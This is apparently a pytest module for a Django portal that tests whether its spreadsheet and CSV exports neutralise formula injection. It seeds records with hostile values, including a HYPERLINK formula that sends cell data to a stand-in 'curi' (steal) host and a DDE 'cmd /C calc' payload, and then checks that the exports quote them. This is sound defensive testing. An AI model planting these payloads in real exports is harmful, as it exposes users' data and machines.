"""Issue 9, finding 2: no export of the portal carries a formula.

Every name in the world starts with a character a spreadsheet evaluates (= + - @, tab, carriage return).
The walk GETs every URL of the portal as the superuser (parameters filled from the world of the
read-only walk, ``tests/wilayah/test_hanya_baca.py``), keeps every response that is a spreadsheet or
CSV, and checks every cell: no formula, no text starting with one of those characters, numbers still
numbers. The admin has no export; if one is ever enabled it must offer only the neutralising formats.
Every test of this module shares that world (``test_ekspor_diimpor.py``: the exports go back in).
"""

import csv
import io
import logging

import openpyxl
import pytest
from django.contrib import admin
from django.db import transaction
from django.test import Client, override_settings
from import_export.admin import ExportMixin
from import_export.formats.base_formats import CSV, XLSX

from kader.models import BidangKerja, Kader
from lkk.models import Lembaga, Pengurus
from pelatihan.models import Diklat, Materi, Peserta, RencanaTindakLanjut
from pud.models import UMKM, Usulan
from tests.wilayah.test_hanya_baca import bangun_dunia, semua_ujung
from wilayah.daftar import FilteredExportMixin
from wilayah.impor import XLSX_CONTENT_TYPE, EksporNetralMixin, UnduhTemplatExcelView
from wilayah.models import RW
from wisata.models import Event, KategoriWisata

HYPERLINK = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"klik")'
JAHAT = [HYPERLINK, "+1+1", '-2+3+cmd|" /C calc"!A0', "@SUM(1+1)", "\t=1+1", "\r=1+1"]
# OWASP "CSV Injection": what a spreadsheet evaluates when it comes first (written out here, not
# imported from wilayah.sel, so that narrowing the rule there fails these tests).
BERBAHAYA = ("=", "+", "-", "@", "\t", "\r")
JENIS_SPREADSHEET = ("application/vnd.ms-excel", "application/vnd.oasis.opendocument.spreadsheet")


def isi_nama_jahat(d) -> None:
    """Every text a list shows or exports, in the world's rows, made hostile (update(): no form strips it)."""
    jahat = iter(JAHAT * 10)
    Kader.objects.update(nama=HYPERLINK, tempat_lahir=next(jahat), alamat=next(jahat), pekerjaan=next(jahat), nomor_sk=next(jahat), alasan_nonaktif=next(jahat))
    BidangKerja.objects.filter(pk=d.bidang.pk).update(nama=next(jahat))
    Lembaga.objects.update(nama=HYPERLINK, alamat=next(jahat), nomor_sk=next(jahat), kontak_nama=next(jahat))
    Pengurus.objects.update(nama=HYPERLINK, nama_seksi=next(jahat), nomor_sk_pengangkatan=next(jahat))
    Event.objects.update(nama=HYPERLINK, penyelenggara=next(jahat), lokasi=next(jahat), catatan_dampak=next(jahat), pengunjung=1500)
    KategoriWisata.objects.filter(pk=d.kategori.pk).update(nama=next(jahat))
    RW.objects.update(nama_ketua=next(jahat))
    UMKM.objects.update(nama_usaha=HYPERLINK, pemilik_nama=next(jahat), alamat=next(jahat), produk=next(jahat), kontak_publik=next(jahat))
    Peserta.objects.update(nama=HYPERLINK, jabatan=next(jahat), lembaga_asal=next(jahat))
    Usulan.objects.update(produk=HYPERLINK)
    Diklat.objects.update(judul=HYPERLINK, sasaran=next(jahat))
    Materi.objects.update(judul=next(jahat))
    RencanaTindakLanjut.objects.update(uraian=HYPERLINK, catatan=next(jahat))


def sel_xlsx(isi: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(isi))  # not read-only: the cells' data types
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def nilai_csv(isi: bytes) -> list:
    return [v for row in csv.reader(io.StringIO(isi.decode("utf-8-sig"))) for v in row]


def periksa_sel(nama: str, nilai: list, jenis_data: list | None = None) -> None:
    if jenis_data is not None:
        assert "f" not in jenis_data, f"{nama}: ada sel rumus"
    berbahaya = [v for v in nilai if isinstance(v, str) and v.startswith(BERBAHAYA)]
    assert not berbahaya, f"{nama}: sel teks diawali karakter rumus: {berbahaya[:3]}"


@pytest.fixture(scope="module")
def ekspor(django_db_setup, django_db_blocker, tmp_path_factory):
    """{URL name: (response content type, body)} of every spreadsheet the portal answers a GET with."""
    media = tmp_path_factory.mktemp("media_ekspor")
    semula = logging.root.manager.disable
    logging.disable(logging.WARNING)  # refusals of pages that need a form or a POST: only noise here
    with django_db_blocker.unblock(), override_settings(MEDIA_ROOT=media), transaction.atomic():
        try:
            d = bangun_dunia()
            isi_nama_jahat(d)
            client = Client()
            client.force_login(d.superuser)
            hasil, kelas_ekspor = {}, set()
            for ujung in semua_ujung(d):
                if ujung.di_admin:
                    continue
                kelas = getattr(ujung.callback, "view_class", None)
                if kelas is not None and issubclass(kelas, FilteredExportMixin | UnduhTemplatExcelView):
                    kelas_ekspor.add(ujung.nama)
                response = client.get(ujung.url)
                jenis_isi = response.get("Content-Type", "")
                if jenis_isi.startswith((XLSX_CONTENT_TYPE, "text/csv", *JENIS_SPREADSHEET)):
                    hasil[ujung.nama] = (jenis_isi, b"".join(response) if response.streaming else response.content)
            yield hasil, kelas_ekspor
        finally:
            transaction.set_rollback(True)
            logging.disable(semula)


def test_every_export_of_the_portal_is_found(ekspor, db):
    hasil, kelas_ekspor = ekspor
    assert kelas_ekspor <= set(hasil), f"ekspor yang tidak menjawab GET superuser: {kelas_ekspor - set(hasil)}"
    assert {"kader:kader-ekspor", "lkk:lembaga-ekspor", "lkk:pengurus-ekspor", "wisata:event-ekspor", "pud:umkm-ekspor"} <= set(hasil)


def test_no_export_carries_a_formula_or_text_a_spreadsheet_would_evaluate(ekspor, db):
    hasil, _kelas = ekspor
    angka = 0
    for nama, (jenis_isi, isi) in hasil.items():
        if jenis_isi.startswith(XLSX_CONTENT_TYPE):
            sel = sel_xlsx(isi)
            nilai = [c.value for c in sel]
            periksa_sel(nama, nilai, [c.data_type for c in sel])
        elif jenis_isi.startswith("text/csv"):
            nilai = nilai_csv(isi)
            periksa_sel(nama, nilai)
        else:
            pytest.fail(f"{nama}: {jenis_isi} belum diperiksa di sini; tambahkan pembacanya.")
        # A monthly report's xlsx (laporan:xlsx) holds figures frozen when the world was built, before
        # its names were made hostile: its cells are checked above, the hostile name cannot be in it.
        if "templat" not in nama and nama != "laporan:xlsx":
            assert "'" + HYPERLINK in nilai, f"{nama}: nama jahat dunia uji tidak ada di ekspor (uji ini tidak menguji apa-apa)"
        angka += sum(1 for v in nilai if isinstance(v, int | float) and not isinstance(v, bool))
    assert angka, "angka tetap angka (sel bilangan), bukan teks"


def test_the_admin_exports_nothing_or_only_through_the_neutralising_formats(rf, admin_user):
    """No ModelAdmin has django-import-export's export today; one that gets it must offer only formats
    with ``EksporNetralMixin`` (``formats = [XLSXNetral]``), not IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT."""
    request = rf.get("/")
    request.user = admin_user
    for model, model_admin in admin.site._registry.items():
        if isinstance(model_admin, ExportMixin):
            formats = model_admin.get_export_formats()
            assert all(issubclass(f, EksporNetralMixin) for f in formats), f"Ekspor admin {model._meta.label}: {formats}"


@pytest.mark.parametrize("format_dasar", [XLSX, CSV])
def test_the_neutralising_format_mixin_keeps_numbers_and_quotes_formulas(format_dasar):
    import tablib

    dataset = tablib.Dataset(*[(teks, 1500, 2.5) for teks in JAHAT + ["Biasa", "Kata-kata", "a=b"]], headers=["=nama", "angka", "pecahan"])
    isi = type("Netral", (EksporNetralMixin, format_dasar), {})().export_data(dataset)
    if format_dasar is XLSX:
        sel = sel_xlsx(isi)
        periksa_sel("xlsx", [c.value for c in sel], [c.data_type for c in sel])
        baris = list(openpyxl.load_workbook(io.BytesIO(isi)).active.values)
        assert baris[0][0] == "'=nama" and baris[1] == ("'" + HYPERLINK, 1500, 2.5) and baris[-2:] == [("Kata-kata", 1500, 2.5), ("a=b", 1500, 2.5)]
    else:
        periksa_sel("csv", nilai_csv(isi.encode() if isinstance(isi, str) else isi))
        assert "'+1+1,1500,2.5" in isi
